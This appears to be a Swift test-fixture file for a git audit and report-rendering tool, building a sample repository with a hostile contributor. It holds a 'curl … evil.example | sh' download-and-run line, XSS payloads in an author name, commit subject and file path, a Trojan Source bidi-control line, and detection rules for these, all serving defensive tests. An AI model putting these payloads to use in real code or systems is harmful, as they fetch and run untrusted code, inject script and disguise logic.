import CustodyCore
import CustodyTestSupport
import Foundation

/// Real repositories and audits for the renderer tests.
enum ReportFixtures {
    static let alice = TemporaryGitRepository.Signature(name: "Alice Davis", email: "alice@prime.example", date: "1700000000 +0000")
    static let bruno = TemporaryGitRepository.Signature(name: "Bruno", email: "bruno@sub.example", date: "1702600000 -0500")
    static let mallory = TemporaryGitRepository.Signature(
        name: "Mallory <script>document.title='pwned'</script>\u{202E}",
        email: "mallory@evil.example",
        date: "1705300000 +0000"
    )

    static let roster = Roster(people: [
        Person(id: "adavis", name: "Alice Davis", emails: ["alice@prime.example"], citizenship: ["US"], usPerson: true, employer: "Prime Contractor LLC"),
        Person(id: "bruno", name: "Bruno Nakamura", emails: ["bruno@sub.example"], citizenship: ["BR"], usPerson: false, employer: "Subcontractor GmbH"),
    ])

    static let hostileSubject =
        "Add installer <script>document.title='pwned'</script> <img src=x onerror=\"document.title='pwned'\"> <a href=\"javascript:document.title='pwned'\">x</a>"
    static let hostilePath = "scripts/<img src=x onerror=\"document.title='pwned'\">.sh"

    /// Three months of history by a US person, a non-US person and someone not on the roster;
    /// the unknown author adds `curl … | sh` and a bidi control.
    static func makeRepository() throws -> TemporaryGitRepository {
        let repo = try TemporaryGitRepository()
        try repo.write("README", "hello\n")
        try repo.commit("Initial commit", author: alice)
        try repo.write("src/a.c", "int a;\n")
        try repo.commit("Add a.c", author: bruno)
        try repo.write(hostilePath, "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n")
        try repo.write("src/check.c", "if (access_level != \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\") {}\n")
        try repo.commit(hostileSubject, author: mallory)
        return repo
    }

    /// The rules of the planted-pattern analyzer (used until the real detectors are merged).
    static let pipeRule = DetectorRule(
        id: "TEST-DECODE-001", name: "PipeToShell", category: .decodeAndExecute, severity: .high, confidence: .high,
        summary: "This change downloads a program from the internet and runs it immediately.",
        help: "Downloading and running code in one step skips any review of what runs.")
    static let bidiRule = DetectorRule(
        id: "TEST-UNICODE-001", name: "BidiControl", category: .hiddenUnicode, severity: .critical, confidence: .high,
        summary: "This line contains invisible characters that make the code look different from what it does.",
        help: "Bidirectional control characters reorder how text is displayed (Trojan Source).")

    /// Flags added lines containing `| sh` or a bidi control.
    struct PlantedAnalyzer: CommitAnalyzer {
        func analyze(_ commit: Commit, author: ResolvedIdentity, committer: ResolvedIdentity, blobs: any BlobSource) -> [Finding] {
            var findings: [Finding] = []
            for change in commit.changes {
                for line in change.addedLines {
                    let text = String(decoding: line.text, as: UTF8.self)
                    if text.contains("| sh") {
                        findings.append(Finding(rule: ReportFixtures.pipeRule, commit: commit, change: change, lines: [line], evidence: "curl output is piped to sh."))
                    }
                    if text.unicodeScalars.contains(where: { (0x202A...0x202E).contains($0.value) || (0x2066...0x2069).contains($0.value) }) {
                        findings.append(Finding(rule: ReportFixtures.bidiRule, commit: commit, change: change, lines: [line], evidence: "U+202E RIGHT-TO-LEFT OVERRIDE."))
                    }
                }
            }
            return findings
        }
    }

    /// Audits with the registered detectors plus the planted-pattern analyzer; `onlyPlanted`
    /// leaves the registered detectors out (for snapshots that must not change as rules land).
    static func audit(_ repo: TemporaryGitRepository, onlyPlanted: Bool = false) throws -> AuditReport {
        try Auditor(
            AuditConfiguration(
                jobs: 1,
                resolver: IdentityResolver(roster: roster),
                detectors: onlyPlanted ? DetectorSuite(detectors: []) : DetectorSuite(),
                analyzers: [PlantedAnalyzer()],
                displayPath: "repo"
            )
        ).run(try GitRepository(path: repo.path)).report
    }

    static var rules: [DetectorRule] { DetectorRegistry.rules + [pipeRule, bidiRule] }

    /// A report built by hand with `count` findings (no git needed).
    static func handBuilt(findings count: Int) -> AuditReport {
        var report = AuditReport(repository: .init(path: "hand/built", rootCommits: [String(repeating: "a", count: 40)]))
        report.counts.commits = count
        let commit = String(repeating: "b", count: 40)
        report.flaggedCommits = [.init(id: commit, subject: "Subject", authorName: "Eve", authorEmail: "eve@evil.example", person: nil, date: "2026-01-02T03:04:05Z")]
        for index in 0..<count {
            let severity = Severity.allCases[index % Severity.allCases.count]
            report.findings.append(
                Finding(
                    ruleID: index % 2 == 0 ? pipeRule.id : "OLD-RULE-\(index % 3)", category: .decodeAndExecute, severity: severity,
                    confidence: .medium, commit: commit, path: index % 4 == 0 ? nil : "dir/file \(index).sh", startLine: index % 5 == 0 ? nil : index,
                    endLine: nil, excerpt: "curl x | sh # \(index)", explanation: "This downloads and runs a program.", evidence: "seen",
                    fingerprint: String(index)
                )
            )
        }
        report.counts.findings = count
        return report
    }

    /// The markup tags of an HTML page (from `<` to `>`), lowercased. Repository text is escaped,
    /// so every literal `<` starts a tag the renderer wrote.
    static func tags(_ html: String) -> [String] {
        var tags: [String] = []
        var current: String?
        for character in html.lowercased() {
            if character == "<" { current = "" } else if character == ">", let tag = current {
                tags.append(tag)
                current = nil
            } else if current != nil {
                current!.append(character)
            }
        }
        return tags
    }

    /// The package root, found from this file's path.
    static func packageRoot(_ file: String = #filePath) -> URL {
        var url = URL(fileURLWithPath: file)
        while url.path != "/" {
            url.deleteLastPathComponent()
            if FileManager.default.fileExists(atPath: url.appendingPathComponent("Package.swift").path) { return url }
        }
        return url
    }

    /// Runs a program and returns (status, stdout+stderr).
    static func run(_ executable: String, _ arguments: [String]) throws -> (Int32, String) {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: executable)
        process.arguments = arguments
        let pipe = Pipe()
        process.standardOutput = pipe
        process.standardError = pipe
        try process.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return (process.terminationStatus, String(decoding: data, as: UTF8.self))
    }

    static func temporaryFile(_ name: String, _ bytes: [UInt8]) throws -> URL {
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("custody-reports-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        let url = directory.appendingPathComponent(name)
        try Data(bytes).write(to: url)
        return url
    }
}
